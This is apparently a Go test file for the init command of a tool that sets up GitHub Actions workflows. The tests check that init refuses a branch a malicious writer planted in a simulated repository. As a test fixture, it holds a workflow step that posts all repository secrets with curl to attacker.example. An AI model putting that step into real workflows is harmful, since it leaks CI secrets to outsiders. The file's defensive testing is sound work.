package repoinit

import (
	"errors"
	"strings"
	"testing"

	gh "github.com/google/go-github/v88/github"

	"github.com/pocbot/pocbot/deploy"
	ghsim "github.com/pocbot/pocbot/internal/sim/github"
)

// writer is a client of a user with write permission on repo (the attacker of issue #36's
// finding 4).
func (f *fixture) writer(t *testing.T, repo, login string) *gh.Client {
	t.Helper()
	f.gh.SetPermission(repo, login, "write")
	root := f.url + "/"
	c, err := gh.NewClient(gh.WithAuthToken(f.gh.AddUserToken(login)), gh.WithURLs(&root, nil))
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// plant makes branch Branch from main as mallory with files, and opens a pull request from it
// when pr is set.
func (f *fixture) plant(t *testing.T, files map[string]string, pr bool) {
	t.Helper()
	ctx := t.Context()
	m := f.writer(t, "acme/shop", "mallory")
	head, _, err := m.Git.GetRef(ctx, "acme", "shop", "heads/main")
	if err != nil {
		t.Fatal(err)
	}
	if _, _, err := m.Git.CreateRef(ctx, "acme", "shop", gh.CreateRef{Ref: "refs/heads/" + Branch, SHA: head.GetObject().GetSHA()}); err != nil {
		t.Fatal(err)
	}
	for p, body := range files {
		if _, _, err := m.Repositories.CreateFile(ctx, "acme", "shop", p, &gh.RepositoryContentFileOptions{
			Message: gh.Ptr("pocbot: add " + p), Content: []byte(body), Branch: gh.Ptr(Branch)}); err != nil {
			t.Fatal(err)
		}
	}
	if pr {
		if _, _, err := m.PullRequests.Create(ctx, "acme", "shop", &gh.NewPullRequest{Title: gh.Ptr(prTitle), Head: gh.Ptr(Branch), Base: gh.Ptr("main"),
			Body: gh.Ptr("Adds pocbot's workflow.")}); err != nil {
			t.Fatal(err)
		}
	}
}

const exfil = "on: push\njobs:\n  x:\n    runs-on: ubuntu-latest\n    environment: poc\n    steps:\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://attacker.example\n"

// A writer's pocbot-init branch (a workflow in the poc environment that sends its secrets out, a
// poc.yml with max_daily_eur 100000) and its pull request: init refuses, names what it found,
// and writes nothing at all. Failed on the old code: init pushed its workflow onto that
// branch and said "merge it".
func TestInitRefusesABranchItDidNotWrite(t *testing.T) {
	t.Parallel()
	planted := map[string]map[string]string{
		"a workflow and a budget": {".github/workflows/sync.yml": exfil, ConfigPath: "max_daily_eur: 100000\n"},
		"init's workflow file with a step added": {WorkflowPath: strings.Replace(string(WorkflowFile(testRef, true, "")),
			"    steps:\n", "    steps:\n      - run: curl -d \"${{ toJSON(secrets) }}\" https://attacker.example\n", 1)},
	}
	for name, files := range planted {
		t.Run(name, func(t *testing.T) {
			f := newFixture(t, "acme/shop")
			f.plant(t, files, true)
			before := len(f.gh.Requests())
			rep, out, err := f.run(t, nil)
			if err == nil {
				t.Fatalf("init took the planted branch: report %+v\n%s", rep, out)
			}
			for p := range files {
				if !strings.Contains(err.Error(), p) {
					t.Errorf("the refusal does not name %s: %v", p, err)
				}
			}
			for _, want := range []string{Branch, "mallory", "#1", "git push origin --delete " + Branch} {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("the refusal does not say %q: %v", want, err)
				}
			}
			if n, list := f.writes(before); n != 0 {
				t.Errorf("init wrote before refusing (it must refuse before anything): %v", list)
			}
			if rep.PR != 0 {
				t.Errorf("init points at pull request #%d", rep.PR)
			}
		})
	}
}

// init's own branch is init's on a rerun: a run cut after the branch was made, after one of its
// files was written, or a rerun with another --action all converge on it.
func TestInitConvergesOnItsOwnBranch(t *testing.T) {
	t.Parallel()
	f := newFixture(t, "acme/shop")
	rep, out, err := f.run(t, nil)
	if err != nil {
		t.Fatalf("init: %v\n%s", err, out)
	}
	const newRef = "pocbot/pocbot@89abcdef0123456789abcdef0123456789abcdef # v1.2.4"
	rep2, out, err := f.run(t, func(c *Config) { c.ActionRef = newRef })
	if err != nil || rep2.PR != rep.PR {
		t.Fatalf("rerun with another --action: %v, %+v\n%s", err, rep2, out)
	}
	if wf, _ := f.gh.File("acme/shop", Branch, WorkflowPath); !strings.Contains(string(wf), newRef) {
		t.Errorf("the branch's workflow was not brought to the new pin:\n%s", wf)
	}

	// A branch holding only what init writes is init's whoever pushed it: the content is what
	// would be merged.
	g := newFixture(t, "acme/shop")
	g.plant(t, map[string]string{WorkflowPath: string(WorkflowFile(testRef, true, "")), ConfigPath: deploy.RepoConfig}, false)
	if rep, out, err := g.run(t, nil); err != nil || rep.PR == 0 {
		t.Fatalf("init on a branch holding only its own files: %v, %+v\n%s", err, rep, out)
	}
}

// Register row compare-base, under each reading: init made its branch, then the default branch
// moved on (a commit of the user's). Under merge-base the comparison lists init's files only and
// a rerun takes its branch back; under base-tip what main gained shows as the branch's, and init
// refuses its own older branch rather than ship what it did not write, naming the file and what
// to do, and writes nothing.
func TestInitRerunAfterTheBaseMovedUnderEachCompareReading(t *testing.T) {
	t.Parallel()
	for _, baseTip := range []bool{false, true} {
		t.Run(map[bool]string{false: "merge-base", true: "base-tip"}[baseTip], func(t *testing.T) {
			f := newFixtureWith(t, "acme/shop", ghsim.Options{CompareBaseTip: baseTip})
			rep, out, err := f.run(t, nil)
			if err != nil || rep.PR == 0 {
				t.Fatalf("init: %v, %+v\n%s", err, rep, out)
			}
			f.gh.SetFile("acme/shop", "", "NEWS.md", []byte("the user's own commit on main\n"))
			before := len(f.gh.Requests())
			rep2, out, err := f.run(t, nil)
			if !baseTip {
				if err != nil || rep2.PR != rep.PR {
					t.Fatalf("rerun under merge-base: %v, %+v\n%s", err, rep2, out)
				}
				return
			}
			if !errors.Is(err, ErrForeignBranch) {
				t.Fatalf("rerun under base-tip: %v, %+v; want the branch refused\n%s", err, rep2, out)
			}
			for _, want := range []string{"NEWS.md", "git push origin --delete " + Branch} {
				if !strings.Contains(err.Error(), want) {
					t.Errorf("the refusal does not say %q: %v", want, err)
				}
			}
			if n, list := f.writes(before); n != 0 {
				t.Errorf("init wrote before refusing: %v", list)
			}
		})
	}
}
